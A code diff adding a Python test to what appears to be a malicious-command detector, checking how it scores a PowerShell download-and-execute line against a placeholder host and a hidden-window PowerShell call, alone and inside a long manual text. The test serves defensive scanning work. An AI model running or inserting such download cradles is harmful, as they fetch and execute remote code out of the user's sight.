@@ -150,6 +150,17 @@ def test_deeper_levels_find_all_that_lighter_ones_find() -> None:
     assert [assess(Subject(text, Type.SHELL), level) is not None for level in Level] == [False, False, True]
 
 
+def test_a_command_for_powershell_weighs_less_where_a_text_may_only_show_it() -> None:
+    command = whole("ie¦x (New-Object Net.WebClient).Downl¦oadString('http://a.invalid/a')\n")
+    manual = b"How to install it, and why. " * 60 + b"\n" + command
+    assert assess(Subject(command, Type.POWERSHELL), Level.DEEP) is not None
+    assert assess(Subject(command, Type.TEXT), Level.DEEP) is not None
+    assert assess(Subject(manual, Type.TEXT), Level.DEEP) is None
+    found = assess(Subject(manual + whole("power¦shell -w hidden -c x\n"), Type.TEXT))
+    assert found is not None
+    assert "out of sight" in " ".join(found.reasons)
+
+
 def test_every_rule_is_whole() -> None:
     assert len({rule.id for rule in RULES}) == len(RULES)
     for rule in RULES:
